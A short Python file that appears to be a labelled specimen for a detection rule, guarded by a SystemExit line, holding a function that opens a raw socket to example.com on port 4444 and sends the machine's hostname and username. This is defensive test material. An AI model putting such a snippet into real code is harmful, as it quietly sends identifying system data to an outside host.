raise SystemExit("specimen: not to be run")
import getpass
import socket

def tell():
    line = socket.socket()
    line.connect(("example.com", 4444))
    line.sendall((socket.gethostname() + getpass.getuser()).encode())  # match: raw-socket-carries-data
